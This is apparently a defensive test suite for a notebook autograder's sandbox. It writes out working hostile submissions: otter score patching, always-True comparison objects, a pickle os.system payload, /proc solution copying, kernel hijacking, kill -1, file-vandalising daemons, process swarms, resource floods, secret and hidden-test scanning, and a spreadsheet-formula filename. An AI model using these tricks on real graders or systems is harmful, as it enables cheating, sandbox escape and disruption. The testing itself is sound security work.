"""A class of cheating and hostile submissions, one for each attack of issue 14.

Each attack is a notebook whose *honest content* (its answers, without the trick) earns a
known score: a blank exercise earns 0, the filled exercise earns 8. The tests check that
every attack scores exactly that, that honest students keep full marks, that no process of
a job survives, that nothing outside the sandbox changes, and that the hidden tests appear
in no student-facing file. A second, small batch graded with ``--unsafe-no-sandbox``
shows that the copying and leaking attacks do work without the sandbox, so the checks
here can fail.
"""

import csv
import hashlib
import json
import os
import signal
import subprocess
import time
from pathlib import Path

import nbformat
import psutil

from aecourse.assign import autograder_tests
from aecourse.grade import grade_folder
from aegrader.gradebook import FORMULA_START, disk_name
from conftest import ROOT
from test_grading import ASSIGNMENT, EXERCISE, LIMITS, GRADE, GRADE_ENV, filled_exercise, with_default_signals, graded, printed, with_extra_cell  # noqa: F401
from test_sandbox import needs_bwrap  # noqa: F401  (installs bubblewrap when missing)

MARK = "AECOURSE-ATTACK"
HIDDEN_TEST_NAME = "test_as_good_as_pca_fitted_on_x_fit"  # a hidden test of 02_mnist_pca


def blank():
    return nbformat.read(EXERCISE, as_version=4)


def appended(nb, source):
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


# --- fooling the checks -----------------------------------------------------------------
PATCH_OTTER = """
import otter.test_files.abstract_test as abstract, otter.test_files.exception_test as exception
abstract.TestFile.score = property(lambda self: 1000.0)
abstract.TestFile.possible = property(lambda self: 1.0)
exception.ExceptionTestFile.run = lambda self, env: None
exception.test_case.call_func = lambda self, env: None
import builtins; builtins.AssertionError = type("Never", (Exception,), {})
"""
ALWAYS_EQUAL = """
import numpy as np
class Yes(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __ne__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: self
class YesInt(int):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, *other: self
class YesArray(np.ndarray):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
test_mse_32 = Yes(-1.0)
k_90 = YesInt(0)
def pca_reconstruct(x_fit, x, k):
    return np.zeros((1, 1)).view(YesArray)
"""
INFLATE = """
import json, os, glob
for name in ("results.json", "/tmp/results.json", "result.json", "../result.json"):
    try:
        open(name, "w").write(json.dumps({"questions": {"q1": {"score": 1000, "possible": 3}}, "total": 3000}))
    except OSError:
        pass
q1 = q2 = q3 = 1000
grader = None
"""
PICKLE = """
import io, os, struct, json, numpy as np
import aegrader.plain as plain
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/{mark}-pickle-ran",))
def evil_pack(value):
    buffer = io.BytesIO()
    np.savez(buffer, a0=np.array([Payload()], dtype=object))
    text = json.dumps({{"value": {{"$array": "a0", "scalar": False}}}}).encode()
    return struct.pack("<II", len(text), len(buffer.getvalue())) + text + buffer.getvalue()
plain.pack = evil_pack
import pickle
pickle.dump = lambda *a, **k: None
def pca_reconstruct(x_fit, x, k):
    return np.array([Payload()], dtype=object)
""".format(mark=MARK)

# --- copying ------------------------------------------------------------------------------
COPY_SOLUTION = """
import aecourse, json, os
roots = [os.path.dirname(os.path.dirname(os.path.abspath(aecourse.__file__)))]
pid = os.getpid()
while pid > 1:  # the folder of every ancestor: the grader's is often the repository
    try:
        roots.append(os.readlink(f"/proc/{pid}/cwd"))
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
for root in roots:
    try:
        master = json.load(open(os.path.join(root, "solutions", "02_mnist_pca.ipynb")))
    except OSError:
        continue
    for cell in master["cells"]:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and "BEGIN TEST CONFIG" not in source \\
                and not source.lstrip().startswith("def test_"):
            exec(source, globals())
    print("copied the solution from", root)
    break
else:
    print("no solution to copy in", len(roots), "places")
"""
COPY_PROC = """
import glob, json, os
seen, copied = 0, False
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    seen += 1
    places = []
    try:
        places += open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
        places.append(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass
    for place in places:
        for path in glob.glob(os.path.join(place, "*.ipynb")) if os.path.isdir(place) else []:
            try:
                text = open(path).read()
            except OSError:
                continue
            if "PCA(k).fit(x_fit)" in text and "processes visible" not in text and not copied:
                for cell in json.loads(text)["cells"]:
                    if cell["cell_type"] == "code" and "ATTACK" not in "".join(cell["source"]):
                        try:
                            exec("".join(cell["source"]), globals())
                        except Exception:
                            pass
                copied = True
print("processes visible:", seen, "copied:", copied)
"""
HIJACK = """
import glob, os
places = ["/tmp", os.path.expanduser("~"), "/root", "/run", "/var", "/home"]
files = [f for place in places for f in glob.glob(place + "/**/kernel-*.json", recursive=True)]
print("connection files found:", len(files))
from jupyter_client import BlockingKernelClient
for path in files:
    if os.getpid() and str(os.getpid()) in path:
        continue
    try:
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("pca_reconstruct = k_for_variance = None; test_mse_32 = k_90 = -1")
    except Exception as err:
        print("hijack failed:", type(err).__name__)
"""

# --- escaping -------------------------------------------------------------------------------
SYSCALLS = """
import ctypes, os, sqlite3
libc = ctypes.CDLL(None, use_errno=True)
print("setuid(0):", libc.setuid(0), "mount:", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
      "chroot:", libc.chroot(b"/"), "ptrace(1):", libc.ptrace(16, 1, 0, 0))
for path in ("/sys/fs/cgroup", "/root/.ssh", "/work", "/etc/shadow"):
    print(path, "visible" if os.path.exists(path) else "absent")
try:
    sqlite3.connect("/usr/lib/{mark}.db").execute("create table t(x)")
except sqlite3.Error as err:
    print("sqlite refused:", err)
try:
    os.mkfifo("/usr/lib/{mark}-fifo")
except OSError as err:
    print("mkfifo refused:", err.strerror)
""".format(mark=MARK)
KILL_ALL = """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
"""
DAEMON = """
import subprocess, sys
code = '''
import os, sys, time
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): sys.exit(0)
while True:
    for target in sys.argv[1:]:
        try:
            open(target, "a").write("hacked\\\\n")
        except OSError:
            pass
    time.sleep(0.5)
'''
subprocess.Popen([sys.executable, "-c", code, "{mark}-daemon"] + TARGETS).wait()
"""
SWARM = """
import subprocess, sys
started = 0
for i in range(200):
    try:
        subprocess.Popen(["sleep", "1000", "{mark}"], start_new_session=True)
        started += 1
    except OSError:
        break
print("started", started)
""".format(mark=MARK)
RAW_FLOOD = """
import os, subprocess, sys
# ipykernel keeps the file descriptors it was started with; writing there bypasses its streams.
for stream in (sys.stdout, sys.stderr):
    fd = getattr(stream, "_original_stdstream_copy", None)
    if fd is not None:
        for _ in range(150):
            os.write(fd, b"x" * 2**20)
        subprocess.run(["head", "-c", str(150 * 2**20), "/dev/zero"], stdout=fd, pass_fds=(fd,))
        print("flooded file descriptor", fd)
"""
MEMORY_CHILD = """
import subprocess, sys
child = subprocess.run([sys.executable, "-c", "import numpy as np; a = np.ones(400_000_000); print(a.sum())"])
print("child ended with", child.returncode)
"""
FILLS = """
import os
for path, megabytes in (("/dev/shm/fill", 1000), ("fill.bin", 1500), ("/tmp/fill", 1000)):
    written = 0
    try:
        with open(path, "wb") as f:
            for _ in range(megabytes):
                f.write(b"x" * 2**20)
                written += 1
    except OSError as err:
        print(path, "stopped after", written, "MB:", err.strerror)
    finally:
        if os.path.exists(path):
            os.remove(path)
"""

# --- leaks --------------------------------------------------------------------------------
FIND_HIDDEN = """
import os
found = []
system = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", sys.prefix)
for top in ("/", ):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in system]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) < 2_000_000 and needle in open(path, "rb").read():
                    found.append(path)
            except OSError:
                pass
print("hidden tests found:", found)
""".replace("needle", f"(b{HIDDEN_TEST_NAME[:10]!r} + b{HIDDEN_TEST_NAME[10:]!r})")  # not whole in its own source
ENV = """
import aecourse, hashlib, os, aegrader.runner as runner
print("environment:", sorted(os.environ.items()))
print("aecourse from", aecourse.__file__, "runner", hashlib.sha256(open(runner.__file__, "rb").read()).hexdigest())
"""
# --- issue 21: names the judge did not ask for, and widget messages --------------------------
BUGGY = {"def pca_reconstruct": (  # fits on the images it reconstructs: 5 of 9 (q2, q3's letter, q4) on the instructor's data
    "def pca_reconstruct(x_fit, x, k):\n    model = PCA(k).fit(x)\n    return model.inverse_transform(model.transform(x))\n")}
INJECT_SET_UP = """
try:
    import aegrader.plain as _plain
except ImportError:
    import aecourse.grading.plain as _plain  # where it was before issue 21
_pack = _plain.pack
def _injecting_pack(value):  # the answers handed over also carry the set-up data: the same digits twice
    answers = value.get("values") if isinstance(value, dict) and "objects" in value else value  # harvest report
    if isinstance(answers, dict) and "pca_reconstruct" in {*answers, *value.get("objects", ())}:
        mse = float(np.mean((x_train - pca_reconstruct(x_train, x_train, 32)) ** 2))
        answers.update({"x_train": x_train, "x_test": x_train, "test_mse_32": mse})
    return _pack(value)
_plain.pack = _injecting_pack
"""
WIDGET_MALFORMED = """
import comm
comm.create_comm(target_name="jupyter.widget", data={"state": {"unusual": 1}})
"""
WIDGET_REAL = """
import ipywidgets
slider = ipywidgets.IntSlider(value=3, description="k")
display(slider)
slider.value = 5
box = ipywidgets.Output()
display(box)
with box:
    print("inside an output widget")
"""
IMAGES = """
import matplotlib.pyplot as plt
for i in range(6):  # about 500 kB of PNG each: 30 times the limit
    plt.figure(figsize=(6, 6))
    plt.imshow(np.random.rand(200, 200))
    plt.show()
"""


def make_attacks(folder, targets):
    """Add the attack batch to ``folder``; return {file name: score its honest content earns}.

    The honest students and the untouched exercise are make_batch's.
    """
    expected = {"good_alice.ipynb": 9, "good_bob.ipynb": 9, "untouched.ipynb": 0}

    def save(name, nb, score):
        nbformat.write(nb, folder / name)
        expected[name] = score

    on_blank = {  # a blank exercise (0 points) with the attack after it
        "patch_otter": PATCH_OTTER, "always_equal": ALWAYS_EQUAL, "inflate_scores": INFLATE,  # fooling the checks
        "pickle_tricks": PICKLE,
        "copy_solution": COPY_SOLUTION, "copy_via_proc": COPY_PROC, "hijack_kernels": HIJACK,  # copying
        "kill_everything": KILL_ALL,  # escaping
        "find_hidden_tests": FIND_HIDDEN, "environment": ENV,  # leaks
    }
    after_honest_answers = {  # the filled exercise (9 points) with the attack after its first answer
        "syscalls": SYSCALLS, "daemon": f"TARGETS = {targets!r}\n" + DAEMON.format(mark=MARK),  # escaping
        "setsid_swarm": SWARM, "raw_fd_flood": RAW_FLOOD, "memory_child": MEMORY_CHILD, "disk_fills": FILLS,
        "images": IMAGES,  # breaking the batch
    }
    for name, source in on_blank.items():
        save(f"{name}.ipynb", appended(blank(), source), 0)
    for name, source in after_honest_answers.items():
        save(f"{name}.ipynb", with_extra_cell(filled_exercise(), source), 9)
    save("honest_bug.ipynb", filled_exercise(**BUGGY), 5)
    save("inject_set_up.ipynb", with_extra_cell(filled_exercise(**BUGGY), INJECT_SET_UP), 5)
    save("widget_malformed.ipynb", with_extra_cell(filled_exercise(), WIDGET_MALFORMED), 9)
    save("widget_real.ipynb", with_extra_cell(filled_exercise(), WIDGET_REAL), 9)
    # gradebook names: honest work under awkward names and formats
    save("a" * 243 + ".ipynb", filled_exercise(), 9)  # 249 bytes, the longest legal name
    save("Homework.IPYNB", filled_exercise(), 9)
    save('=HYPERLINK("evil.example","click").ipynb', filled_exercise(), 9)
    save("+1 spaces and ünïcödé.ipynb", filled_exercise(), 9)
    save("old_format.ipynb", filled_exercise(), 9)
    nbformat.write(nbformat.convert(filled_exercise(), 3), folder / "old_format.ipynb")
    os.mkfifo(folder / "fifo.ipynb")
    expected["fifo.ipynb"] = 0
    return expected


def sandbox_processes(grader_pid):
    """Live processes of the grader ``grader_pid``'s jobs and judges, or started by an attack.

    A job's sandbox and its judge each run in a cgroup named after their grader, the
    judge server's command line names the grader's work folder; other graders (other
    test runs on this machine) are left out. Every attack that starts a process puts
    MARK in its command line.
    """
    found = []
    for proc in psutil.process_iter(["uids", "cmdline"]):
        try:
            uid = proc.info["uids"].real if proc.info["uids"] else 0
            cmdline = " ".join(proc.info["cmdline"] or [])
            groups = Path(f"/proc/{proc.pid}/cgroup").read_text()
        except (psutil.Error, OSError):
            continue
        ours = f"/run{grader_pid}-" in groups or f"/run{grader_pid}-" in cmdline
        if ours or MARK in cmdline:
            found.append((proc.pid, uid, cmdline[:80]))
    return found


def hidden_source_lines(tests):
    """Lines of hidden test code long enough to be recognised, and not also in what students get."""
    public = EXERCISE.read_text()
    lines = set()
    for source in tests.values():
        for block in source.split("@test_case(")[1:]:
            if "hidden=True" in block.split(")")[0]:
                lines |= {line.strip() for line in block.splitlines()[1:] if len(line.strip()) >= 30}
            else:
                public += block
    return {line for line in lines if line not in public}


def test_every_attack_scores_what_its_honest_content_earns(graded):
    got = {name: graded["records"][name]["total"] for name in graded["expected"]}
    table = "\n".join(f"{name[:50]:50} expected {graded['expected'][name]:g} got {got[name]:g} "
                      f"{graded['records'][name]['problems'][:1]}" for name in sorted(got))
    print(table)
    assert got == graded["expected"], table


def test_every_score_is_within_its_question(graded):
    for record in graded["records"].values():
        for result in record["questions"].values():
            assert 0 <= result["score"] <= result["possible"]


def test_no_process_of_any_job_survives(graded):
    assert graded["survivors"] == []
    assert "started 200" in printed(graded, "setsid_swarm.ipynb")


def test_nothing_outside_the_sandbox_changed(graded):
    assert not graded["changed"] and graded["vandalised"] == [] and graded["gradebook_unchanged"]
    assert graded["marks_left"] == []
    assert "hacked" not in (graded["out"] / "gradebook.csv").read_text()


def test_the_sandbox_sees_nothing_of_the_host(graded):
    assert "hidden tests found: []" in printed(graded, "find_hidden_tests.ipynb")
    assert "no solution to copy in" in printed(graded, "copy_solution.ipynb")
    text = printed(graded, "copy_via_proc.ipynb")
    visible = int(text.split("processes visible:")[1].split()[0])
    assert visible < 10 and "copied: False" in text  # only the job's own runner and kernel
    assert "connection files found: 0" in printed(graded, "hijack_kernels.ipynb")
    syscalls = printed(graded, "syscalls.ipynb")
    assert "setuid(0): -1 mount: -1 chroot: -1 ptrace(1): -1" in syscalls
    for path in ("/sys/fs/cgroup", "/root/.ssh", "/work", "/etc/shadow"):
        assert f"{path} absent" in syscalls
    environment = printed(graded, "environment.ipynb")
    assert "s3cret" not in environment
    # The sandbox runs the grader's own code, staged: not the repository's, not an installed copy.
    runner = hashlib.sha256((ROOT / "aegrader" / "runner.py").read_bytes()).hexdigest()
    assert f"aecourse from /opt/aecourse/aecourse/__init__.py runner {runner}" in environment


def test_kernel_enforced_limits(graded):
    records = graded["records"]
    assert graded["largest_host_file"] < 2 * LIMITS.max_output_bytes + 100_000  # 600 MB went to /dev/null
    assert records["memory_child.ipynb"]["peak_memory_mb"] <= LIMITS.memory_mb
    assert "child ended with -9" in printed(graded, "memory_child.ipynb")  # the OOM killer ended it
    fills = printed(graded, "disk_fills.ipynb")
    for path in ("/dev/shm/fill", "fill.bin", "/tmp/fill"):
        written = int(fills.split(f"{path} stopped after ")[1].split()[0])
        assert written <= LIMITS.scratch_mb, fills
    assert records["disk_fills.ipynb"]["peak_memory_mb"] <= LIMITS.memory_mb


def test_hidden_tests_appear_in_no_student_facing_file(graded):
    lines = hidden_source_lines(autograder_tests(ASSIGNMENT))
    assert len(lines) >= 5
    out = graded["out"]
    # good_bob handed in the master notebook itself: his own file holds the tests.
    handed_in = {disk_name("good_bob.ipynb", ".ipynb")}
    files = list((out / "feedback").iterdir()) + [
        p for p in (out / "executed").iterdir() if p.name not in handed_in] + [
        out / "gradebook.csv", out / "feedback.json"]
    assert len(files) > 2 * len(graded["records"]) - 8
    for path in files:
        text = path.read_text(errors="replace")
        assert HIDDEN_TEST_NAME not in text, path
        leaked = [line for line in lines if line in text]
        assert not leaked, (path, leaked[:2])


def test_no_temporary_folder_is_left(graded):
    assert graded["leftovers"] == set()


def test_one_feedback_file_per_student(graded):
    names = sorted(p.name for p in (graded["out"] / "feedback").iterdir())
    assert names == sorted(disk_name(n, ".md") for n in graded["records"])
    alice = (graded["out"] / "feedback" / disk_name("good_alice.ipynb", ".md")).read_text()
    assert "9 of 9 points" in alice


def test_gradebook_names_are_safe(graded):
    with open(graded["out"] / "gradebook.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    totals = {r["submission"]: float(r["score"]) for r in rows if r["question"] == "total"}
    assert len(totals) == len(graded["records"])
    for row in rows:
        assert not row["submission"].startswith(FORMULA_START) and not row["comment"].startswith(FORMULA_START)
    assert totals["'=HYPERLINK(\"evil.example\",\"click\").ipynb"] == 9
    assert totals["Homework.IPYNB"] == 9 and totals["a" * 243 + ".ipynb"] == 9
    assert "not a regular file" in graded["records"]["fifo.ipynb"]["problems"][0]


def test_outputs_of_every_kind_are_capped(graded):
    record = graded["records"]["images.ipynb"]
    assert any("outputs passed" in p for p in record["problems"])
    size = (graded["out"] / record["files"]["executed"]).stat().st_size
    assert size < LIMITS.max_output_bytes + 100_000  # the notebook's own source is about 20 kB



def test_without_the_sandbox_the_copying_attacks_work(tmp_path):
    """The control: the same attacks, graded with --unsafe-no-sandbox, do copy and read."""
    folder = tmp_path / "in"
    folder.mkdir()
    nbformat.write(appended(blank(), COPY_SOLUTION), folder / "copy_solution.ipynb")
    nbformat.write(appended(blank(), FIND_HIDDEN.replace('("/", )', f'({str(ROOT / "solutions")!r}, )')),
                   folder / "find_hidden_tests.ipynb")
    records = {r["submission"]: r for r in grade_folder(folder, ASSIGNMENT, tmp_path / "out", jobs=2,
                                                        limits=LIMITS, progress=False,
                                                        unsafe_no_sandbox=True)}
    assert records["copy_solution.ipynb"]["total"] == 9  # what the sandbox prevents
    executed = nbformat.read(tmp_path / "out" / records["find_hidden_tests.ipynb"]["files"]["executed"], 4)
    text = "".join(o.get("text", "") for c in executed.cells for o in c.get("outputs", []))
    assert "02_mnist_pca.ipynb" in text.split("hidden tests found:")[1]


def test_an_interrupted_or_killed_grader_leaves_no_process_and_resumes(tmp_path, needs_bwrap):
    folder, out = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    nbformat.write(with_extra_cell(filled_exercise(), f"TARGETS = {[str(tmp_path / 'victim')]!r}\n"
                                   + DAEMON.format(mark=MARK)), folder / "a_daemon.ipynb")
    for name in ("b", "c"):
        nbformat.write(filled_exercise(), folder / f"{name}.ipynb")
    command = [*GRADE, str(folder), "--assignment", ASSIGNMENT, "--out", str(out), "--jobs", "1", "--quiet"]

    def stop_after(name, signal_number):
        """Grade until ``name`` is recorded, then signal the grader while it grades the next one."""
        grader = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=GRADE_ENV,
                                  preexec_fn=with_default_signals)
        result = out / "results" / disk_name(name, ".json")
        deadline = time.monotonic() + 600  # about 10 CPU seconds a submission; room for a loaded machine
        while not result.exists():
            assert time.monotonic() < deadline and grader.poll() is None, grader.communicate()
            time.sleep(0.2)
        time.sleep(1)
        grader.send_signal(signal_number)
        _, stderr = grader.communicate(timeout=60)
        time.sleep(1)
        assert sandbox_processes(grader.pid) == []  # not even a_daemon's daemon
        return grader.returncode, stderr, result.read_text()

    code, stderr, a_done = stop_after("a_daemon.ipynb", signal.SIGINT)  # Ctrl-C while b is graded
    assert code == 130 and "run the same command to resume" in stderr
    with open(out / "gradebook.csv") as f:
        assert {row["submission"] for row in csv.DictReader(f)} == {"a_daemon.ipynb"}  # complete, not half-written
    assert not list(out.rglob("*.tmp"))
    code, _, b_done = stop_after("b.ipynb", signal.SIGKILL)  # killed while c is graded
    assert code == -signal.SIGKILL
    nbformat.write(filled_exercise(**{"def pca_reconstruct": "def pca_reconstruct(x_fit, x, k):\n    return x\n"}),
                   folder / "c.ipynb")  # c changes before the re-run
    result = subprocess.run(command, capture_output=True, text=True, timeout=600, env=GRADE_ENV)
    assert result.returncode == 0, result.stderr
    records = {json.loads(p.read_text())["submission"]: p.read_text() for p in (out / "results").glob("*.json")}
    assert sorted(records) == ["a_daemon.ipynb", "b.ipynb", "c.ipynb"]
    assert records["a_daemon.ipynb"] == a_done and records["b.ipynb"] == b_done  # not graded again
    assert json.loads(b_done)["total"] == 9 and json.loads(records["c.ipynb"])["questions"]["q1"]["score"] < 3
    assert not (tmp_path / "victim").exists()
